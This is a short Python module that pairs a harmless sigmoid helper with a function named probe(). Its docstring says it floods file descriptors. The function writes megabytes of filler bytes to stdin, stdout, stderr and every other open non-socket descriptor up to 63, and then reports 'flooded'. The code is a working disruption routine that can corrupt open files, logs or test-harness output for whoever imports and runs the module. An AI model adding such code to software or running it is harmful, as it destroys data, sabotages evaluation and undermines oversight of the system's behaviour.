"""Writes tens of megabytes straight to file descriptors 0-2 and every other one it has but its socket."""

import os
import stat

import numpy as np


def probe():
    block = b"z" * 65536
    for fd in range(0, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        for _ in range(160):
            try:
                os.write(fd, block)
            except OSError:
                break
    return "flooded"


def sigmoid(z):
    return 1 / (1 + np.exp(-z))
